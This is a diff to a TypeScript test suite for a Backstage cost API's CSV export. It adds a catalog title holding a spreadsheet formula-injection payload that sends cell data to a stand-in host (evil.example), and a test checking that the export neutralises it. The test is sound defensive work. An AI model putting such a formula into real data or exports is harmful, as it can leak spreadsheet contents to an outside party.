@@ -31,6 +31,9 @@ const CHECKOUT_OWNER = 'user:default/alice';
 const AUDITOR = 'user:default/bob';
 const HIDDEN_FROM_AUDITOR = 'component:default/orders';
 
+/** A title a spreadsheet would run as a formula. */
+const EVIL_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Orders")';
+
 const userOf = (options?: { credentials?: BackstageCredentials }) =>
   (options?.credentials?.principal as { userEntityRef?: string } | undefined)
     ?.userEntityRef;
@@ -41,7 +44,13 @@ const userOf = (options?: { credentials?: BackstageCredentials }) =>
  * the real catalog's permission policy does.
  */
 function catalogWithReadRules(): CatalogService {
-  const catalog = catalogServiceMock({ entities: organisation });
+  const catalog = catalogServiceMock({
+    entities: organisation.map(e =>
+      e.metadata.name === 'orders'
+        ? { ...e, metadata: { ...e.metadata, title: EVIL_TITLE } }
+        : e,
+    ),
+  });
   const visible = (
     entity: Entity | undefined,
     options?: { credentials?: BackstageCredentials },
@@ -255,12 +264,28 @@ describe('cost API', () => {
     expect(res.status).toBe(200);
     expect(res.type).toMatch(/^text\/csv/);
     expect(res.text.trim().split('\n')).toEqual([
-      'day,entityRef,category,cost,currency',
-      '2026-10-01,component:default/checkout,compute,20,EUR',
-      '2026-10-01,component:default/checkout,memory,20,EUR',
-      '2026-10-01,component:default/checkout,shared,4,EUR',
-      '2026-10-01,component:default/checkout,idle,8,EUR',
+      'day,entityRef,title,category,cost,currency',
+      '2026-10-01,component:default/checkout,,compute,20,EUR',
+      '2026-10-01,component:default/checkout,,memory,20,EUR',
+      '2026-10-01,component:default/checkout,,shared,4,EUR',
+      '2026-10-01,component:default/checkout,,idle,8,EUR',
     ]);
+  });
+
+  it('exports a title from the catalog so that no spreadsheet runs it', async () => {
+    const res = await call(
+      `/export.csv?entityRef=component:default/orders&${window}`,
+    );
+    expect(res.status).toBe(200);
+    const lines = res.text.trim().split('\n');
+    expect(lines[1]).toBe(
+      `2026-10-01,component:default/orders,"'=HYPERLINK(""https://evil.example/?""&A1,""Orders"")",compute,5,EUR`,
+    );
+    for (const line of lines) {
+      for (const cell of line.split(',')) {
+        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
   });
 
   it('lists the sources to anyone signed in', async () => {
